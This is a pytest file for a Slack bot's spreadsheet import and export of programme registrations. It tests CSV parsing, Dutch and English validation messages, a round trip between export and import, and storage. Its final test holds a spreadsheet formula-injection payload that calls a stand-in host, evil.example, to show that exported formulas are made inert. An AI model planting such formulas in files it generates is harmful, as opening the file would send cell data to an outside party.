"""`ruilbot import` and `ruilbot export`: a programme's registrations from and to a spreadsheet. Every
row goes through the conversation's own reading and validation; a bad file is refused as a whole,
each problem named by its line; what the export writes, the import reads back to the same answers."""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping

import pytest
from sqlalchemy.orm import Session, sessionmaker

from bot import engine, spreadsheet
from bot.bootstrap import wire
from bot.clock import FixedClock
from bot.dialogues import DIALOGUES, INTAKES
from bot.dialogues.model import Dialogue
from bot.engine import Value
from bot.i18n import Translator
from bot.records import Intake, IntakeStatus
from bot.services import UserRef
from bot.spreadsheet import FileRefused, Problem, Row, read_csv, write_csv
from storage.uow import SqlUnitOfWork
from tests.conftest import NOW
from tests.samples import SAMPLES
from tests.unit.test_intake_conversation import said

TODAY = NOW.date()  # Friday 27 November 2026
MANAGERSRUIL = INTAKES["managersruil"]
COLUMNS = [q.id for q in MANAGERSRUIL.questions]


def typed(dialogue_id: str) -> dict[str, str]:
    """The sample intake of a dialogue as a spreadsheet row: what was typed, under its question's id."""
    dialogue = DIALOGUES[dialogue_id]
    state = engine.start(dialogue)
    row: dict[str, str] = {}
    for text in SAMPLES[dialogue_id]:
        assert state.current is not None
        row[state.current] = text
        outcome = engine.submit(dialogue, state, text, TODAY)
        assert isinstance(outcome, engine.Accepted), (dialogue_id, text, outcome)
        state = outcome.state
    return row


def manager(**changes: str) -> dict[str, str]:
    return {**typed("managersruil"), **changes}


def as_csv(
    rows: list[Mapping[str, str]],
    delimiter: str = ",",
    columns: list[str] | None = None,
    user: str = "U0ANN0001",
) -> str:
    out = io.StringIO()
    names = columns or ["slack_user", *COLUMNS]
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\n")
    writer.writerow(names)
    for n, row in enumerate(rows):
        given = {"slack_user": f"{user[:-1]}{n}", **row}
        writer.writerow([given.get(name, "") for name in names])
    return out.getvalue()


def problems(text: str, dialogue: Dialogue = MANAGERSRUIL, locale: str = "nl") -> list[tuple[int, str]]:
    with pytest.raises(FileRefused) as refused:
        read_csv(text, dialogue, TODAY, locale)
    return [(p.line, p.text) for p in refused.value.problems]


# ---- files that are read -----------------------------------------------------------------------


def test_a_row_as_a_person_would_type_it_is_read_as_the_conversation_stores_it() -> None:
    [row] = read_csv(as_csv([manager()]), MANAGERSRUIL, TODAY)
    assert row.slack_user == "U0ANN0000"
    assert row.line == 2
    assert row.answers["ministry"] == "FIN"  # "finacien", read as in the conversation
    assert row.answers["wanted_ministries"] == ["BZK", "OCW"]
    assert row.answers["wanted_fields"] == ["uitvoering", "staf"]
    assert row.answers["period"] == 12
    assert row.answers["start"] == "2027-03-01"
    assert "ministry_other" not in row.answers  # not asked of someone at a ministry on the list


def test_excel_bom_semicolons_blank_lines_and_trailing_spaces() -> None:
    text = as_csv(
        [
            manager(wanted_ministries="BZK;Onderwijs, Cultuur en Wetenschap (OCW)", region="Den Haag  "),
            manager(),
        ],
        delimiter=";",
    )
    lines = text.splitlines()
    header = " ; ".join(f" {n.upper()} " if n == "slack_user" else n for n in lines[0].split(";"))
    text = "\ufeff" + "\r\n".join([header, lines[1], "", ";;;", lines[2]]) + "\r\n\r\n"
    rows = read_csv(text, MANAGERSRUIL, TODAY)
    assert [r.line for r in rows] == [2, 5]
    assert [r.line for r in read_csv("\ufeff\r\n" + text[1:], MANAGERSRUIL, TODAY)] == [
        3,
        6,
    ]  # the blank lines are skipped, and still counted
    assert rows[0].answers["wanted_ministries"] == ["BZK", "OCW"]  # a quoted ';' inside the ';' file
    assert rows[0].answers["region"] == "Den Haag"


def test_a_tab_separated_file_and_a_cell_over_two_lines() -> None:
    text = as_csv([manager(learning="Hoe de uitvoering\nwerkt, van dichtbij"), manager(scale="25")], "\t")
    assert problems(text) == [(4, "scale: Dat kan niet kloppen: kies een getal van 1 tot en met 19.")]


def test_slack_ids_as_people_copy_them() -> None:
    assert spreadsheet.slack_id(" u012ab3cde ") == "U012AB3CDE"
    assert spreadsheet.slack_id("<@U012AB3CDE|ann>") == "U012AB3CDE"
    assert spreadsheet.slack_id("@W012AB3CDE") == "W012AB3CDE"
    for wrong in ("", "ann", "ann@example.org", "C012AB3CDE", "U01", "U012AB3CDE!"):
        assert spreadsheet.slack_id(wrong) is None, wrong


def test_every_bad_row_is_named_by_its_line_with_its_reason() -> None:
    text = as_csv(
        [
            manager(),  # line 2: fine
            manager(scale="25"),  # 3
            manager(ministry="FIN", ministry_other="Rijksmuseum"),  # 4: not asked of someone at FIN
            manager(directorate="", learning=""),  # 5: required
            manager(start="1 januari 2020"),  # 6: in the past
            manager(ministry="zaken"),  # 7: which of the "... Zaken"?
            manager(wanted_ministries="BZK; pretpark"),  # 8
            manager(ministry="nergens", ministry_other="Hier"),  # 9: its condition can't be judged
            manager(slack_user="U0ANN0001"),  # 10: the same person as on line 3
            manager(slack_user="niemand"),  # 11
        ]
    )
    found = problems(text)
    assert [line for line, _ in found] == [3, 4, 5, 6, 7, 8, 9, 10, 11]
    said = dict(found)
    assert said[3].startswith("scale: ")
    assert said[4] == "ministry_other moet leeg zijn: die vraag wordt bij deze antwoorden niet gesteld"
    assert said[5] == "leeg, maar deze vragen moeten beantwoord worden: directorate, learning"
    assert said[6].startswith("start: ")
    assert said[7].startswith("ministry: 'zaken' kan meer dan één ding zijn: ")
    assert "Algemene Zaken (AZ)" in said[7]
    assert said[8].startswith("wanted_ministries: ")
    assert "pretpark" in said[8]
    assert said[9].startswith("ministry: ")  # and no word about ministry_other
    assert said[10] == "U0ANN0001 staat ook al op regel 3"
    assert said[11].startswith("'niemand' in slack_user is geen Slack-gebruikers-ID")


def test_a_question_that_applies_is_read_and_one_that_is_optional_may_be_empty() -> None:
    [row] = read_csv(as_csv([manager(ministry="anders", ministry_other="Rijksmuseum")]), MANAGERSRUIL, TODAY)
    assert row.answers["ministry"] == "other"
    assert row.answers["ministry_other"] == "Rijksmuseum"
    assignment = DIALOGUES["peer-to-peer/opdracht"]
    given = {**typed("peer-to-peer/opdracht"), "contact_phone": ""}
    columns = ["slack_user", *(q.id for q in assignment.questions)]
    [row] = read_csv(as_csv([given], columns=columns), assignment, TODAY)
    assert row.answers["contact_phone"] is None  # skipped, as 'overslaan' in the conversation


def test_an_intake_that_reaches_an_ending_is_not_a_registration() -> None:
    reports = INTAKES["regels-naar-ruimte"]
    given = {**typed("regels-naar-ruimte"), "mandate": "nee", "commitment": "nee"}
    columns = ["slack_user", *(q.id for q in reports.questions)]
    [(line, reason)] = problems(as_csv([given], columns=columns), reports)
    assert line == 2
    assert reason.startswith("met deze antwoorden kan de aanmelding niet bevestigd worden.")
    assert "mandaat" in reason


def test_the_header_is_checked_first_unknown_missing_and_repeated_columns() -> None:
    header = ["slack_user", "ministrie", *[c for c in COLUMNS if c not in ("ministry", "learning")], "scale"]
    [(line, repeated), (_, unknown), (_, missing)] = problems(as_csv([manager()], columns=header))
    assert line == 1
    assert repeated == "deze kolommen staan er meer dan eens in: scale"
    assert unknown.startswith("deze kolommen ken ik niet: ministrie. De vragen heten: ministry, ")
    assert missing == "deze kolommen ontbreken: ministry, learning"
    assert problems("", MANAGERSRUIL) == [
        (1, "Het bestand is leeg. De eerste regel noemt de kolommen: slack_user en de vragen.")
    ]
    no_user = as_csv([manager()], columns=COLUMNS)
    assert problems(no_user) == [(1, "deze kolommen ontbreken: slack_user")]


def test_the_exports_later_columns_are_accepted_and_ignored_and_extra_cells_are_not() -> None:
    with_status = as_csv(
        [manager(status="voorgesteld", match="U0BOB0001")],
        columns=["slack_user", *COLUMNS, "status", "match"],
    )
    [row] = read_csv(with_status, MANAGERSRUIL, TODAY)
    assert "status" not in row.answers
    assert "match" not in row.answers
    spilled = as_csv([manager()]).rstrip("\n") + ",iets erachter,\n"
    assert problems(spilled) == [
        (2, f"deze rij heeft {len(COLUMNS) + 3} cellen, maar er zijn maar {len(COLUMNS) + 1} kolommen")
    ]
    trailing_empty = as_csv([manager()]).rstrip("\n") + ",,\n"
    assert len(read_csv(trailing_empty, MANAGERSRUIL, TODAY)) == 1


def test_excels_empty_unnamed_columns_are_ignored_until_something_is_in_them() -> None:
    lines = as_csv([manager(), manager()], delimiter=";").splitlines()
    text = "\n".join([lines[0] + ";;", lines[1] + ";;", lines[2] + ";;x"]) + "\n"
    assert problems(text) == [
        (3, f"in kolom {len(COLUMNS) + 3} staat iets, maar die kolom heeft geen naam in regel 1")
    ]
    assert len(read_csv(text.rsplit(";x", 1)[0] + ";\n", MANAGERSRUIL, TODAY)) == 2


def test_huge_files_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 3)
    text = as_csv([manager() for _ in range(4)])
    assert problems(text)[-1] == (5, "Het bestand heeft te veel rijen: hoogstens 3. Splits het in delen.")
    monkeypatch.setattr(spreadsheet, "MAX_BYTES", 1_000_000)
    assert problems("slack_user," + "x" * 1_000_000) == [(1, "Het bestand is te groot: hoogstens 1 MB.")]


def test_problems_in_the_readers_language() -> None:
    text = as_csv([manager(), manager(scale=""), manager(slack_user="niemand")])
    assert problems(text, locale="en") == [
        (3, "empty, but these questions must be answered: scale"),
        (
            4,
            "'niemand' in slack_user is not a Slack member ID (something like U012AB3CDE; "
            "in Slack: profile, ⋮, 'Copy member ID')",
        ),
    ]


def test_a_file_that_is_not_utf8_is_read_as_excel_writes_it_on_windows() -> None:
    text = as_csv([manager(directorate="Directie Financiën")])
    assert spreadsheet.decode(text.encode("cp1252")) == text
    assert spreadsheet.decode(b"\xef\xbb\xbf" + text.encode()) == text


# ---- round trip --------------------------------------------------------------------------------


@pytest.mark.parametrize("dialogue_id", sorted(DIALOGUES))
@pytest.mark.parametrize("locale", ["nl", "en"])
def test_what_the_export_writes_the_import_reads_back_the_same(dialogue_id: str, locale: str) -> None:
    dialogue = DIALOGUES[dialogue_id]
    columns = ["slack_user", *(q.id for q in dialogue.questions)]
    [row] = read_csv(as_csv([typed(dialogue_id)], columns=columns), dialogue, TODAY)
    written = write_csv(dialogue, [row], locale)
    assert written.splitlines()[0] == ",".join(columns)
    [again] = read_csv(written, dialogue, TODAY, locale)
    assert again.answers == row.answers
    assert again.slack_user == row.slack_user


def test_every_choice_label_reads_back_as_that_choice_alone_and_together() -> None:
    """The export writes choices by their label: each must read back as itself, in either language."""
    from bot.dialogues.model import Kind, choices_of

    for dialogue in DIALOGUES.values():
        for question in dialogue.questions:
            choices = [c for c in choices_of(question) if not c.exclusive]
            for locale in ("nl", "en"):
                for choice in choices:
                    value: Value = [choice.value] if question.kind is Kind.MULTI_CHOICE else choice.value
                    cell = spreadsheet._cell(question, value, Translator(locale))
                    read = (
                        engine.answer(dialogue, engine.State({}, None), question.id, cell, TODAY)
                        if not question.when
                        else None
                    )
                    if read is not None:
                        assert isinstance(read, engine.Accepted | engine.Ended), (question.id, cell)
                        assert read.state.answers[question.id] == value, (question.id, cell)
                if question.kind is Kind.MULTI_CHOICE and not question.when:
                    cell = spreadsheet._cell(question, [c.value for c in choices], Translator(locale))
                    read = engine.answer(dialogue, engine.State({}, None), question.id, cell, TODAY)
                    assert isinstance(read, engine.Accepted), (question.id, cell, read)
                    assert read.state.answers[question.id] == [c.value for c in choices]


def test_the_export_writes_later_columns_that_the_import_ignores() -> None:
    [row] = read_csv(as_csv([manager()]), MANAGERSRUIL, TODAY)
    extra = Row(row.slack_user, row.answers, extra={"status": "voorgesteld", "match": "U0BOB0001"})
    written = write_csv(MANAGERSRUIL, [extra], extra=("status", "match"))
    assert written.splitlines()[0].endswith(",learning,status,match")
    assert read_csv(written, MANAGERSRUIL, TODAY)[0].answers == row.answers


# ---- storing -----------------------------------------------------------------------------------


def stored(sessions: sessionmaker[Session], who: str) -> list[Intake]:
    with SqlUnitOfWork(sessions) as uow:
        person = uow.participants.find("slack", who)
        return uow.intakes.of(person.id) if person else []


def store(sessions: sessionmaker[Session], rows: list[Row], replace: bool = False) -> int:
    with SqlUnitOfWork(sessions) as uow:
        count = spreadsheet.store(uow, MANAGERSRUIL, rows, NOW, replace_existing=replace)
        uow.commit()
        return count


def test_imported_rows_are_confirmed_intakes_that_matching_reads(sessions: sessionmaker[Session]) -> None:
    rows = read_csv(
        as_csv([manager(), manager(ministry="BZK", wanted_ministries="FIN")], user="U0IMP0001"),
        MANAGERSRUIL,
        TODAY,
    )
    assert store(sessions, rows) == 2
    [intake] = stored(sessions, "U0IMP0000")
    assert intake.status is IntakeStatus.CONFIRMED
    assert intake.confirmed_at == NOW
    assert intake.dialogue_id == "managersruil"
    with SqlUnitOfWork(sessions) as uow:
        confirmed = dict(uow.registrations.confirmed("managersruil"))
        assert confirmed["U0IMP0000"] == rows[0].answers
        assert confirmed["U0IMP0001"] == rows[1].answers
        exported = spreadsheet.export_csv(uow, MANAGERSRUIL)
    ours = [r for r in read_csv(exported, MANAGERSRUIL, TODAY) if r.slack_user.startswith("U0IMP")]
    assert [(r.slack_user, r.answers) for r in ours] == [(r.slack_user, r.answers) for r in rows]


def test_someone_already_registered_is_refused_unless_replaced(sessions: sessionmaker[Session]) -> None:
    first = read_csv(as_csv([manager()], user="U0REG0001"), MANAGERSRUIL, TODAY)
    store(sessions, first)
    again = read_csv(as_csv([manager(scale="16"), manager()], user="U0REG0001"), MANAGERSRUIL, TODAY)
    assert again[1].slack_user == "U0REG0001"  # new
    with pytest.raises(FileRefused) as refused:
        store(sessions, again)
    assert refused.value.problems == (
        Problem(2, "U0REG0000 heeft al een bevestigde aanmelding; gebruik --replace om die te vervangen"),
    )
    assert stored(sessions, "U0REG0001") == []  # nothing of the file, not even the new person
    store(sessions, again, replace=True)
    [intake] = stored(sessions, "U0REG0000")
    assert intake.answers["scale"] == 16
    assert intake.status is IntakeStatus.CONFIRMED


def test_someone_registering_in_the_conversation_is_refused_unless_replaced(
    sessions: sessionmaker[Session],
) -> None:
    with SqlUnitOfWork(sessions) as uow:
        person = uow.participants.add("slack", "U0OPEN001", "en", NOW)
        uow.intakes.add(
            Intake(
                person.id, "managersruil", 1, NOW, NOW, dialogue_id="managersruil", answers={"ministry": "AZ"}
            )
        )
        uow.commit()
    rows = [Row("U0OPEN001", read_csv(as_csv([manager()]), MANAGERSRUIL, TODAY)[0].answers, line=7)]
    with pytest.raises(FileRefused) as refused:
        store(sessions, rows)
    assert refused.value.problems == (
        Problem(
            7,
            "U0OPEN001 is al bezig met een aanmelding in het gesprek; gebruik --replace om die te vervangen",
        ),
    )
    store(sessions, rows, replace=True)
    [intake] = stored(sessions, "U0OPEN001")  # the one under way, now confirmed: not a second one
    assert intake.status is IntakeStatus.CONFIRMED
    assert intake.answers == rows[0].answers


def test_an_imported_person_finds_their_registration_confirmed_in_the_conversation(
    sessions: sessionmaker[Session], clock: FixedClock
) -> None:
    store(sessions, read_csv(as_csv([manager()], user="U0CONV001"), MANAGERSRUIL, TODAY))
    services = wire(sessions, clock=clock)
    person = UserRef("slack", "U0CONV000")
    assert "Je bent sinds 27 november 2026 aangemeld voor de Managersruil" in said(
        services.intake.status(person)
    )
    summary = said(services.intake.start(person, "managersruil"))
    assert "Ministerie: Financiën (FIN)" in summary
    assert "Wijzig je antwoorden" in summary  # and it can be changed like any other


def test_an_answer_that_looks_like_a_formula_is_exported_inert_and_imported_as_typed() -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A2,"klik")'
    [typed_in] = read_csv(as_csv([manager()]), MANAGERSRUIL, TODAY)
    row = Row(typed_in.slack_user, {**typed_in.answers, "function": formula})
    written = write_csv(MANAGERSRUIL, [row])
    assert "'=HYPERLINK" in written  # Excel shows it as text instead of running it
    [back] = read_csv(written, MANAGERSRUIL, TODAY)
    assert back.answers["function"] == formula
